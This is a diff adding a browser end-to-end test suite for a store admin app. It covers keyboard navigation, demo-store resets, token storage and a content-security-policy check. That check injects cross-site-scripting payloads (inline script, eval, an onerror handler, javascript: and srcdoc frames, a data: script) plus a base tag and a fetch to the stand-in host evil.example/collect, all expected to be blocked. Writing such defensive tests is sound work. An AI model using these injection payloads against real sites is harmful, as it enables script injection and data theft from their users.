@@ -1,0 +1,172 @@
+import { afterAll, describe, expect, inject, it } from 'vitest'
+import { closeBrowser, expectAccessible, visit } from './visitor'
+
+afterAll(closeBrowser)
+
+describe('the shell', () => {
+  it('works by keyboard: skip link, navigation, theme, sign out', async () => {
+    const visitor = await visit(inject('demoAddress'))
+    const { page } = visitor
+    await page.getByRole('button', { name: 'Open the demo store' }).press('Enter')
+    await page.getByRole('heading', { level: 1, name: 'Overview' }).waitFor()
+    await page.keyboard.press('Tab')
+    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Skip to content')
+    const theme = page.getByRole('button', { name: /^Theme: System/ })
+    await theme.press('Enter')
+    await page.getByRole('button', { name: /^Theme: Light/ }).press('Enter')
+    expect(await page.evaluate(() => document.documentElement.dataset['mantineColorScheme'])).toBe('dark')
+    await expectAccessible(page)
+    await page.reload()
+    await page.getByRole('button', { name: /^Theme: Dark/ }).waitFor()
+    await page.getByRole('button', { name: 'Account' }).press('Enter')
+    await page.getByRole('button', { name: 'Sign out' }).press('Enter')
+    await page.getByRole('button', { name: 'Open the demo store' }).waitFor()
+    visitor.expectNoTrouble()
+    await visitor.close()
+  })
+
+  it('keeps the demo in all tabs and resets it when asked', async () => {
+    const visitor = await visit(inject('demoAddress'))
+    const { page, context } = visitor
+    await page.getByRole('button', { name: 'Open the demo store' }).click()
+    await page.goto(`${inject('demoAddress')}products`)
+    await page.getByRole('link', { name: 'Slow Wave Mug' }).click()
+    await page.getByRole('button', { name: 'Delete' }).click()
+    await page.getByRole('checkbox', { name: /for good/ }).check()
+    await page.getByRole('button', { name: 'Delete product' }).click()
+    await page.getByRole('heading', { level: 1, name: 'Store products' }).waitFor()
+    const other = await context.newPage()
+    await other.goto(`${inject('demoAddress')}products`)
+    await other.getByRole('row', { name: /Slow Wave Hoodie/ }).waitFor()
+    expect(await other.getByRole('row', { name: /Slow Wave Mug/ }).count()).toBe(0)
+    await other.getByRole('button', { name: 'Account' }).click()
+    await other.getByRole('button', { name: 'Reset demo store' }).click()
+    await other.getByRole('row', { name: /Slow Wave Mug/ }).waitFor()
+    visitor.expectNoTrouble()
+    await visitor.close()
+  })
+
+  it('says that a page or an order does not exist', async () => {
+    const visitor = await visit(inject('demoAddress'))
+    const { page } = visitor
+    await page.getByRole('button', { name: 'Open the demo store' }).click()
+    await page.getByRole('heading', { level: 1, name: 'Overview' }).waitFor()
+    await page.goto(`${inject('demoAddress')}nowhere`)
+    await page.getByRole('heading', { level: 1, name: 'Page not found' }).waitFor()
+    await expectAccessible(page)
+    await page.goto(`${inject('demoAddress')}orders/99`)
+    await page.getByText('This order could not be loaded').waitFor()
+    expect(await page.getByRole('alert').innerText()).toMatch(
+      /Not Found[\s\S]*Nothing was charged or changed/,
+    )
+    await expectAccessible(page)
+    visitor.expectNoTrouble()
+    await visitor.close()
+  })
+})
+
+describe('connecting over HTTP', () => {
+  const connect = async (token: string, expected: RegExp[] = [/status of 40[013]/]) => {
+    const visitor = await visit(inject('liveAddress'), { expected })
+    await visitor.page.getByLabel('Private token').fill(token)
+    await visitor.page.getByRole('button', { name: 'Check and connect' }).click()
+    return visitor
+  }
+
+  it.each([
+    ['sandbox-expired', 'The service does not accept this token'],
+    ['nonsense-token', 'The service does not accept this token'],
+  ])('refuses %s in words and keeps nothing', async (token, title) => {
+    const visitor = await connect(token)
+    await visitor.page.getByText(title).waitFor()
+    expect(
+      await visitor.page.evaluate(() => JSON.stringify([{ ...sessionStorage }, { ...localStorage }])),
+    ).not.toContain(token)
+    await expectAccessible(visitor.page)
+    visitor.expectNoTrouble()
+    await visitor.close()
+  })
+
+  it('lets the owner of an account choose the store', async () => {
+    const visitor = await connect('sandbox-account')
+    await visitor.page.getByRole('button', { name: /Lantern Wholesale/ }).click()
+    await visitor.page.getByRole('link', { name: 'Orders', exact: true }).click()
+    await visitor.page.getByText('No orders yet').waitFor()
+    visitor.expectNoTrouble()
+    await visitor.close()
+  })
+
+  it('keeps the token in this tab only', async () => {
+    const visitor = await connect('sandbox-store')
+    await visitor.page.getByRole('heading', { level: 1, name: 'Overview' }).waitFor()
+    await visitor.page.reload()
+    await visitor.page.getByRole('heading', { level: 1, name: 'Overview' }).waitFor()
+    expect(
+      await visitor.page.evaluate(() => JSON.stringify({ ...localStorage }) + location.href),
+    ).not.toContain('sandbox-store')
+    visitor.expectNoTrouble()
+    await visitor.close()
+  })
+})
+
+describe('the content security policy', () => {
+  it('blocks every probe', async () => {
+    const visitor = await visit(inject('demoAddress'), {
+      expected: [/policy|Content Security|violates|TrustedHTML|TrustedScript|Refused|blocked/i],
+    })
+    const { page } = visitor
+    await page.getByRole('button', { name: 'Open the demo store' }).waitFor()
+    const got = await page.evaluate(probe)
+    expect(got).toEqual([])
+    await visitor.close()
+  })
+})
+
+/** Runs in the page: what an attacker's markup would try. Answers what got through. */
+async function probe(): Promise<string[]> {
+  const through: string[] = []
+  Reflect.set(window, '__hit', (name: string) => through.push(name))
+  const attempt = (name: string, run: () => unknown) => {
+    try {
+      run()
+    } catch {
+      // Refused, as it should be.
+    }
+    void name
+  }
+  const element = (tag: string, props: Record<string, string>) => {
+    const made = document.createElement(tag)
+    for (const [name, value] of Object.entries(props)) made.setAttribute(name, value)
+    document.body.append(made)
+  }
+  // From a timer, because the debugger's own calls are not bound by the policy.
+  await new Promise<void>((done) => {
+    setTimeout(() => {
+      attempt('inline script', () => {
+        const script = document.createElement('script')
+        script.append("window.__hit('inline script')")
+        document.body.append(script)
+      })
+      attempt('eval', () => Reflect.get(window, 'eval')("window.__hit('eval')"))
+      attempt('new Function', () => Reflect.construct(Function, ["window.__hit('new Function')"])())
+      attempt('handler in markup', () =>
+        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.__hit(\'handler\')">'),
+      )
+      attempt('javascript: frame', () => element('iframe', { src: "javascript:parent.__hit('frame')" }))
+      attempt('srcdoc', () => element('iframe', { srcdoc: "<script>parent.__hit('srcdoc')</script>" }))
+      attempt('data: script', () =>
+        element('script', { src: "data:text/javascript,window.__hit('data script')" }),
+      )
+      attempt('base', () => element('base', { href: 'https://evil.example/' }))
+      done()
+    }, 0)
+  })
+  const isForeignReached = await fetch('https://evil.example/collect').then(
+    () => true,
+    () => false,
+  )
+  if (isForeignReached) through.push('foreign connect')
+  await new Promise((done) => setTimeout(done, 500))
+  if (new URL('a', document.baseURI).host === 'evil.example') through.push('base')
+  return through
+}
